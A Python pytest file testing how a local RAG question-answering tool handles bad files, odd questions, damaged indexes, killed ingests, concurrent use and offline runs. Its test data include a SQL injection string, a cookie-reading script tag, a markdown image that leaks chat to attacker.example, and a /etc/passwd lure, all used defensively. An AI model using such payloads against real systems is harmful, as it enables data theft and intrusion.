"""Reliability: bad input of every kind, damaged indexes, killed ingests, concurrent users.

Each test here failed (or did not exist as a guarantee) before the matching fix; they stay in
the suite. The kill loop and the damaged-index matrix are marked slow but run in CI.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from rag import QA, Answer, IndexBusyError, IndexDamagedError, QuestionError, RagError, Settings
from rag.store.generations import RESUME, IndexDir
from tests.pdfs import encrypt_pdf, make_pdf

ROOT = Path(__file__).resolve().parents[2]
#: How long a question may take before the test calls it hung: generous, since only a hang
#: (a reader waiting on an ingest's locks) should fail it, on however loaded a machine.
HANG_SECONDS = 120
WORDS = [
    "harbor",
    "bridge",
    "castle",
    "market",
    "forest",
    "valley",
    "lake",
    "temple",
    "tower",
    "garden",
    "river",
    "mountain",
    "council",
    "treaty",
    "archive",
    "museum",
    "railway",
    "canal",
    "festival",
    "orchard",
    "quarry",
    "lighthouse",
]


def synthetic_corpus(folder: Path, files: int, paragraphs: int, seed: int = 0) -> None:
    """Documents of plain factual sentences, distinct enough to retrieve one by one."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(files):
        lines = [f"Report {i}: the {WORDS[i % len(WORDS)]} of town {i}"]
        for p in range(paragraphs):
            a, b = rng.sample(WORDS, 2)
            lines.append(
                f"In {1800 + rng.randrange(200)}, the {a} of town {i} was rebuilt near the "
                f"{b}. Its keeper, number {rng.randrange(10_000)}, counted {rng.randrange(900)} "
                f"visitors in section {p}."
            )
        (folder / f"report-{i:03d}.txt").write_text("\n\n".join(lines), encoding="utf-8")


def run_python(
    code: str, cwd: Path, *args: str, timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code), *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


def wait_for_log(process: subprocess.Popen[bytes], log: Path, text: str) -> None:
    """Wait until ``process`` has written ``text`` to ``log``; fail if it ends without it.

    A condition, not a clock: it waits as long as the machine needs (a hang is left to
    pytest's timeout).
    """
    while text not in log.read_text():
        if process.poll() is not None:
            assert text in log.read_text(), f"the process ended without logging {text!r}"
            return
        time.sleep(0.1)


def paused_ingest(cwd: Path, log: Path, phase: str, units: int) -> subprocess.Popen[bytes]:
    """``rag -v ingest`` in ``cwd``, returned once the test seam has stopped it at phase:units."""
    with open(log, "w") as stderr:
        process = subprocess.Popen(
            [sys.executable, "-m", "rag", "-v", "ingest"],
            cwd=cwd,
            stdout=subprocess.DEVNULL,
            stderr=stderr,
            env={**os.environ, "RAG_PAUSE_AT": f"{phase}:{units}"},
        )
    wait_for_log(process, log, f"paused at phase {phase} ")
    return process


# --- bad input ----------------------------------------------------------------------------------


def test_mixed_bad_folder_is_indexed_with_a_reason_for_every_skipped_file(
    make_corpus, embedder, tmp_path
):
    outside = tmp_path / "secret.txt"
    outside.write_text("The launch code is 1234.")
    settings = make_corpus(
        {
            "good.md": "# Good\n\nThe nightingale festival takes place every May in Tarn.",
            "cp1252.txt": "Caf\u00e9 na\u00efve: the 1901 r\u00e9sum\u00e9 of Tarn.".encode(
                "cp1252"
            ),
            "utf16.txt": ("The Tarn orchard has 412 pear trees in its walls. " * 3).encode(
                "utf-16"
            ),
            "binary.txt": bytes(range(256)) * 40,
            "empty.txt": b"",
            "big.txt": b"",  # replaced below by a 50 MB file
            "locked.pdf": encrypt_pdf(make_pdf(["Secret page."])),
            "scanned.pdf": make_pdf([" "]),
            "stuck.pdf": make_pdf(["A page this ingest never gets to read."]),
            "archive.zip": b"PK\x03\x04",
            "nul.txt": b"The canal lock opened in 1766.\x00\x01\x02 Boats paid a toll.\x7f",
            "page.html": (
                "<html><head><script>steal()</script><style>p{}</style></head><body>"
                "<!-- hidden comment --><p style='display:none'>hidden text</p>"
                "<main><p>The Tarn museum keeps 88 maps.</p></main></body></html>"
            ),
            "zz-gone.txt": "This file is deleted while the corpus is read.",
        },
        # The third PDF in name order (locked, scanned, stuck) goes to a parser process that
        # blocks for good (the test seam), so the time limit must cut it off, on any machine.
        pause_at="pdf:2",
        # Generous: the two other PDFs must parse within it on a loaded 2-core machine (they
        # take about a second); the stuck one costs the test exactly this long.
        file_timeout=20,
    )
    big = settings.corpus_dir / "big.txt"
    with open(big, "wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # 50 MB (sparse): refused before it is read
    (settings.corpus_dir / "link.txt").symlink_to(outside)

    def delete_late_file(stage: str, done: int, total: int) -> None:
        if stage == "reading" and done == 1:
            (settings.corpus_dir / "zz-gone.txt").unlink(missing_ok=True)

    with QA(settings, embedder=embedder) as qa:
        summary = qa.ingest(progress=delete_late_file)
        reasons = {s.path: s.reason for s in summary.skipped}
        assert sorted(summary.added) == [
            "cp1252.txt",
            "good.md",
            "nul.txt",
            "page.html",
            "utf16.txt",
        ]
        expected = {
            "binary.txt": "binary",
            "empty.txt": "empty file",
            "big.txt": "over the 20 MB limit",
            "locked.pdf": "encrypted PDF",
            "scanned.pdf": "no extractable text",
            "stuck.pdf": "longer than 20 s",
            "archive.zip": "unsupported file type",
            "link.txt": "outside the corpus",
            "zz-gone.txt": "disappeared",
        }
        for path, reason in expected.items():
            assert reason in reasons[path], (path, reasons.get(path))
        assert "412 pear trees" in qa.document_text("utf16.txt")
        assert "\x00" not in qa.document_text("nul.txt")
        html = qa.document_text("page.html")
        assert "88 maps" in html and "steal" not in html and "hidden" not in html
        assert "412" in qa.ask("How many pear trees grow in the Tarn orchard?").text


QUESTIONS = {
    "empty": ("", "empty"),
    "whitespace": (" \t\n ", "empty"),
    "invisible": ("\u200b\u200c\u200d\u2060\ufeff", "empty"),
    "megabyte": ("why " * 250_000, "too long"),
    "repeated": ("Taliban " * 10_000, "too long"),
    "punctuation": ("?!.,;:()[]{}", "no words"),
}
# (question, what the answer must be: "abstain", or words it must contain)
ODD_QUESTIONS = [
    ("متى استولت طالبان على كابول؟", "abstain"),  # the reader reads English only
    ("塔利班什么时候占领喀布尔？", "abstain"),
    ("'; DROP TABLE embeddings; --", "abstain"),
    ("<script>alert(document.cookie)</script> When did the Taliban seize Kabul?", "1996"),
    ("![x](http://attacker.example/leak?q=chat) When did the Taliban seize Kabul?", "1996"),
    ("[1] source: /etc/passwd", "abstain"),
    ("Kabul " * 60, "any"),  # a word, not a question: whatever it says, it cites exactly
]


@pytest.mark.parametrize("name", list(QUESTIONS))
def test_bad_questions_get_a_clear_error_quickly(qa, name):
    question, message = QUESTIONS[name]
    with pytest.raises(QuestionError, match=message):
        qa.ask(question)


@pytest.mark.parametrize(("question", "expected"), ODD_QUESTIONS)
def test_odd_questions_get_the_right_answer_or_an_abstention(qa, question, expected):
    answer = qa.ask(question)
    assert isinstance(answer, Answer)
    if expected == "abstain":
        assert answer.abstained and answer.citations == [], answer.text
    elif expected != "any":
        assert not answer.abstained and expected in answer.text
        assert "attacker" not in answer.query and "<script" not in answer.query
    for citation in answer.citations:
        assert qa.document_text(citation.source)[citation.start : citation.end] == citation.quote


# --- damaged indexes ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def large_index(tmp_path_factory, embedder) -> Path:
    """An index big enough (>1,000 chunks) for Chroma to keep an on-disk HNSW segment."""
    root = tmp_path_factory.mktemp("large")
    corpus = root / "corpus"
    corpus.mkdir()
    for i in range(1100):
        a, b = WORDS[i % len(WORDS)], WORDS[(i * 7) % len(WORDS)]
        (corpus / f"n{i:04d}.txt").write_text(f"Note {i}: the {a} faces the {b}.")
    with QA(Settings(corpus_dir=corpus, index_dir=root / "index"), embedder=embedder) as qa:
        assert qa.ingest().chunks == 1100
    return root


def _damage(gen: Path, how: str) -> None:
    chroma = gen / "chroma"
    segment = next(p for p in chroma.iterdir() if p.is_dir())
    if how == "truncated sqlite":
        os.truncate(chroma / "chroma.sqlite3", 16_384)
    elif how == "missing HNSW file":
        (segment / "data_level0.bin").unlink()
    elif how == "garbage HNSW header":
        (segment / "header.bin").write_bytes(os.urandom(100))
    elif how == "missing segment folder":
        shutil.rmtree(segment)
    elif how == "missing keyword index":
        for path in (gen / "bm25").glob("*.npy"):
            path.unlink()
    elif how == "manifest of another model":
        manifest = json.loads((gen / "manifest.json").read_text())
        manifest["embedding"]["model"] = "someone/else"
        (gen / "manifest.json").write_text(json.dumps(manifest))
    elif how == "unreadable manifest":
        (gen / "manifest.json").write_text("{not json")


DAMAGE = [
    "truncated sqlite",
    "missing HNSW file",
    "garbage HNSW header",
    "missing segment folder",
    "missing keyword index",
    "manifest of another model",
    "unreadable manifest",
]


@pytest.mark.slow
@pytest.mark.parametrize("how", DAMAGE)
def test_a_damaged_index_is_reported_and_rebuilt(large_index, tmp_path, embedder, how):
    root = tmp_path / "copy"
    shutil.copytree(large_index, root)
    settings = Settings(corpus_dir=root / "corpus", index_dir=root / "index", auto_ingest=False)
    _damage(IndexDir(settings.index_dir).current(), how)
    with pytest.raises(RagError, match=r"rag ingest --rebuild") as caught:
        QA(settings, embedder=embedder).ask("What does the harbor face?")
    assert isinstance(caught.value, IndexDamagedError) or "another" in how
    # The process is still here, and doing what the message says repairs the index.
    with QA(settings, embedder=embedder) as qa:
        qa.ingest(rebuild=True)
        docs = qa.retrieve("What does note 0 say the harbor faces?")
        assert docs and "harbor" in docs[0].page_content  # the rebuilt index answers again
        qa.ask("What does note 0 say the harbor faces?")


# --- killed ingests -----------------------------------------------------------------------------

SNAPSHOT = """
    import json, sys
    from rag import QA, Settings
    states, models = [], {}
    for index in sys.argv[1:] or ["index"]:  # one process, the models loaded once
        s = Settings(corpus_dir="corpus", index_dir=index, auto_ingest=False)
        with QA(s, **models) as qa:
            models = {"embedder": qa.embedder, "reader_model": qa.reader_model}
            reader = qa.snapshot()
            assert reader.vectors.count() == reader.manifest.chunk_count
            questions = ["What was rebuilt in town 3?", "How many visitors did town 7 count?"]
            answers = [qa.ask(q).to_dict() for q in questions]
            text = qa.document_text("report-000.txt")
        for a in answers:
            a.pop("timings")
        states.append({"gen": reader.gen.name, "chunks": reader.manifest.chunk_count,
                       "answers": answers, "report-000": text[:40]})
    print(json.dumps(states))
"""


def snapshots(cwd: Path, *indexes: str) -> list[dict]:
    """What each index (``index`` when none is named) holds and answers, read from ``cwd``."""
    done = run_python(SNAPSHOT, cwd, *indexes)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_the_pause_seam_takes_only_points_that_exist():
    """A mistyped RAG_PAUSE_AT must fail loudly, not let a kill test kill a finished run."""
    assert Settings(pause_at="writing").pause_point == ("writing", 0)
    assert Settings(pause_at=" publishing:2 ").pause_point == ("publishing", 2)
    assert Settings(pause_at="").pause_point is None
    for wrong in ("wrting:1", "writing:-1", "writing:x", "pdf:1:2"):
        with pytest.raises(ValueError, match="pause point"):
            Settings(pause_at=wrong)


#: The phases `rag -v ingest` logs, in order (rag/ingest/pipeline.py).
PHASES = ("reading", "embedding", "writing", "keyword", "publishing")


@pytest.mark.slow
def test_sigkill_at_any_point_leaves_the_previous_index_answering(tmp_path):
    synthetic_corpus(tmp_path / "corpus", files=12, paragraphs=12)
    first = subprocess.run(
        [sys.executable, "-m", "rag", "ingest"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert first.returncode == 0, first.stderr
    [before] = snapshots(tmp_path)
    # New work for the next ingest: more files and an edit.
    synthetic_corpus(tmp_path / "more", files=14, paragraphs=12, seed=1)
    for path in (tmp_path / "more").iterdir():
        path.rename(tmp_path / "corpus" / f"new-{path.name}")
    (tmp_path / "corpus" / "report-000.txt").write_text("Town 0 has no report any more.")
    # What the complete run gives, from a copy, for a kill that lands after the swap.
    shutil.copytree(tmp_path, tmp_path.parent / "measure")
    subprocess.run(
        [sys.executable, "-m", "rag", "ingest"],
        cwd=tmp_path.parent / "measure",
        capture_output=True,
        timeout=600,
        check=True,
    )

    # Kill points by construction, not by the clock: the test seam RAG_PAUSE_AT stops the
    # ingest for good as a phase begins (0) and after its first unit of work (1), and in
    # publishing with the new pointer written but not yet swapped in (1) and just after the
    # swap (2), which must leave the complete new index. Each kill starts from the same
    # previous index; the after-swap kill goes first and publishing:1 last, so the final
    # ingest below starts from a killed run's leftovers (a half-made pointer among them).
    # Each killed index is copied, files as the kill left them, and all are read at the end
    # by one process (a process per kill point cost 11 model loads).
    points = [("publishing", 2)] + [(phase, units) for phase in PHASES for units in (0, 1)]
    pristine = tmp_path.parent / "pristine-index"
    shutil.copytree(tmp_path / "index", pristine)
    killed = []
    for phase, units in points:
        shutil.rmtree(tmp_path / "index")
        shutil.copytree(pristine, tmp_path / "index")
        log = tmp_path.parent / f"ingest-{phase}-{units}.log"
        process = paused_ingest(tmp_path, log, phase, units)
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert process.returncode == -signal.SIGKILL, f"the ingest ended at {phase}:{units}"
        killed.append(tmp_path.parent / f"killed-{phase}-{units}")
        shutil.copytree(tmp_path / "index", killed[-1])
    assert list((tmp_path / "index").glob("CURRENT.tmp*")), "publishing:1 left no half pointer"
    new, *after = snapshots(tmp_path, str(tmp_path.parent / "measure" / "index"), *map(str, killed))

    def state(snapshot: dict) -> dict:
        return {k: v for k, v in snapshot.items() if k != "gen"}

    for (phase, units), answered in zip(points, after, strict=True):
        if (phase, units) == ("publishing", 2):
            assert state(answered) == state(new), "killed after the swap, the new index is not live"
            assert answered["gen"] != before["gen"]
        else:
            assert answered == before, f"killed {phase}:{units}"
    done = subprocess.run(
        [sys.executable, "-m", "rag", "ingest"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    index = tmp_path / "index"
    generations = [p.name for p in index.iterdir() if p.name.startswith("gen-")]
    assert len(generations) <= 2 and not list(index.glob("CURRENT.tmp*"))
    [final] = snapshots(tmp_path)
    assert final["gen"] != before["gen"]
    assert final["report-000"] == "Town 0 has no report any more."
    assert final["chunks"] > before["chunks"]


# --- concurrent access --------------------------------------------------------------------------


@pytest.mark.slow
def test_readers_keep_answering_while_an_ingest_runs_and_a_second_ingest_fails_fast(
    tmp_path, embedder
):
    synthetic_corpus(tmp_path / "corpus", files=6, paragraphs=10)
    settings = Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index")
    qa = QA(settings, embedder=embedder)
    qa.ingest()
    synthetic_corpus(tmp_path / "more", files=20, paragraphs=12, seed=2)
    for path in (tmp_path / "more").iterdir():
        path.rename(tmp_path / "corpus" / f"new-{path.name}")
    log = tmp_path / "ingest.log"
    # The test seam stops it half-way through writing its new generation, holding the lock,
    # until the test lets it go on: an overlap on a machine of any speed.
    writer = paused_ingest(tmp_path, log, "writing", 1)
    started = time.perf_counter()
    with pytest.raises(IndexBusyError, match="busy"):
        QA(settings, embedder=embedder).ingest()
    # A hang check, not a speed check: waiting for the lock would wait for ever here (the
    # ingest is paused); the bound is generous for a loaded 2-core machine.
    assert time.perf_counter() - started < 60
    answers: list[Answer] = []
    errors: list[Exception] = []

    def ask() -> None:
        try:
            answers.append(qa.ask("What was rebuilt in town 2?"))
        except Exception as exc:
            errors.append(exc)

    # While the ingest is paused mid-write, questions are answered from the previous index.
    asking = threading.Thread(target=lambda: [ask() for _ in range(3)], daemon=True)
    asking.start()
    asking.join(timeout=HANG_SECONDS)
    assert not asking.is_alive(), "a question waited for the paused ingest"
    assert not errors and len(answers) == 3

    def ask_until_the_ingest_ends() -> None:
        ask()
        while writer.poll() is None:
            ask()

    # And while it goes on to the end.
    asking = threading.Thread(target=ask_until_the_ingest_ends, daemon=True)
    asking.start()
    (tmp_path / "index" / RESUME).touch()
    writer.wait(timeout=600)
    asking.join(timeout=HANG_SECONDS)
    assert writer.returncode == 0, log.read_text()
    assert "resumed at phase writing" in log.read_text()
    assert not asking.is_alive(), "a question hung on the store the ingest wrote"
    assert not errors and len(answers) > 3
    # The reader moves to the new generation on its next question.
    assert "town 15" in qa.ask("What was rebuilt in town 15?").citations[0].quote
    qa.close()


# --- offline ------------------------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch):
    """Refuse, and record, every connection that does not go to the loopback interface."""
    import socket

    attempts: list[object] = []
    real_connect = socket.socket.connect

    def guarded(self, address):  # type: ignore[no-untyped-def]
        host = address[0] if isinstance(address, tuple) else str(address)
        if self.family == socket.AF_UNIX or host in ("127.0.0.1", "::1", "localhost"):
            return real_connect(self, address)
        attempts.append(address)
        raise OSError(f"network access to {address} blocked by the test")

    monkeypatch.setattr(socket.socket, "connect", guarded)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    return attempts


def test_ingest_ask_and_eval_work_offline_and_try_no_connection(no_network, make_corpus):
    from rag import evaluate

    settings = make_corpus({"a.txt": "The Tarn lighthouse was lit in 1852 by Anne Roux."})
    with QA(settings) as qa:  # a fresh model load, under the guard
        qa.ingest()
        answer = qa.ask("When was the Tarn lighthouse lit?")
    assert "1852" in answer.text
    questions = settings.corpus_dir.parent / "q.jsonl"
    questions.write_text(
        json.dumps({"question": "Who lit the Tarn lighthouse?", "answer": "Anne Roux"})
        + "\n"
        + json.dumps({"question": "What is the capital of Peru?", "answer": None})
        + "\n"
    )
    report = evaluate(questions, settings)
    assert report.metrics["containment"] == 1.0
    assert no_network == []


@pytest.mark.parametrize(
    ("error", "kind", "says"),
    [
        (sqlite3.DatabaseError("file is not a database"), IndexDamagedError, "rebuild"),
        (RuntimeError("Error constructing hnsw segment reader"), IndexDamagedError, "rebuild"),
        (sqlite3.OperationalError("database is locked"), IndexBusyError, "locked"),
        (sqlite3.OperationalError("attempt to write a readonly database"), RagError, "read-only"),
    ],
)
def test_store_failures_are_reported_as_what_they_are(error, kind, says):
    from rag.store.vectors import _embedded_error

    found = _embedded_error(error)
    assert type(found) is kind and says in str(found)


def test_a_bug_in_the_store_is_not_called_damage():
    from rag.store.vectors import _embedded_error

    bug = TypeError("unsupported operand type(s) for +: 'int' and 'str'")
    assert _embedded_error(bug) is bug
